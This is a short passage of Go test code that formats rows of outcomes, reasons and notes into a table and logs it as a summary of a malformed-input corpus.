		fmt.Fprintf(&table, "%-34s | %-13s | %s [%s]\n", row.name, row.outcome, reason, row.note)
	}
	t.Logf("malformed corpus:%s", table.String())
}
